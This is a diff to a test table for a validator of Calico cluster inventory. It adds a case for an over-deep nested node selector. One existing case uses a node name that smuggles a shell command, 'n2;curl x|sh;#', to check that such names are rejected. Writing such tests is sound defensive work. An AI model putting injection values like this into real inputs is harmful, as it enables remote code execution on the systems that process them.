@@ -95,6 +95,8 @@ CASES = [
     ("node-name-shell", lambda p: p["nodes"][1].update(name="n2;curl x|sh;#"), "calico_nodes", "inventory_hostname",
      "n2;curl x|sh;#"),
     ("node-name-etcd-key", lambda p: p["nodes"][1].update(name="rack1/n2"), "calico_nodes", "inventory_hostname", "rack1/n2"),
+    ("selector-nested-too-deep", lambda p: pool(p, node_selector="(" * 2000 + "all()" + ")" * 2000), "calico_nodes",
+     "calico_pools[0] (p1).node_selector", "nested more than 64 deep"),
     ("unknown-workload-key", lambda p: wl(p, adress="10.10.0.1"), "n1", "calico_workloads[0]", "adress"),
     ("workloads-not-a-list", lambda p: p["nodes"][0].update(workloads="w1,w2"), "n1", "calico_workloads", "w1,w2"),
     ("node-ip-without-prefix", lambda p: p["nodes"][0].update(ip="192.168.1.1"), "n1", "calico_node_ip", "192.168.1.1"),
